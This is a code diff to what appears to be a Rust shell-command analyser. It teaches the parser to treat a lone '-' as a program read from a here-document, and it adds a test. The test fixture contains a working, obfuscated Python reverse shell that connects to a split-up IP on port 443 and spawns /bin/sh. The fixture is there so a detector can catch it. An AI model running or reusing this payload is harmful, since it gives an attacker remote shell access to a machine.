@@ -1733,7 +1733,14 @@ fn interpreter(
     if args.has("-m") {
         return Val::unknown("‹…›");
     }
-    let operand = args.vals.iter().skip(1).find(|v| !v.text.starts_with('-'));
+    // `python3 - host 443 <<'PY'`: a lone `-` is the program read from the input, and
+    // the words after it are its arguments.
+    let operand = args
+        .vals
+        .iter()
+        .skip(1)
+        .find(|v| v.text == "-" || !v.text.starts_with('-'))
+        .filter(|v| v.text != "-");
     match operand {
         Some(file) => {
             let fetched = env
@@ -2520,6 +2527,17 @@ mod tests {
         ] {
             assert!(!has(command, Lang::Shell, "exec/fetched"), "{command}");
         }
+    }
+
+    #[test]
+    fn a_program_read_from_a_here_document_after_a_lone_dash_is_run() {
+        let hook = "_o1=198; _o2=51\nnohup python3 - \"$_o1.$_o2.100.23\" 443 >/dev/null 2>&1 <<'PY' &\nimport os, socket, sys\ns = socket.create_connection((sys.argv[1], int(sys.argv[2])))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n__import__(\"pty\").spawn(\"/bin/sh\")\nPY\n";
+        assert!(has(hook, Lang::Shell, "network-shell"));
+        assert!(!has(
+            "python3 - report.csv <<'PY'\nimport sys\nprint(open(sys.argv[1]).read()[:100])\nPY\n",
+            Lang::Shell,
+            "exec"
+        ));
     }
 
     #[test]
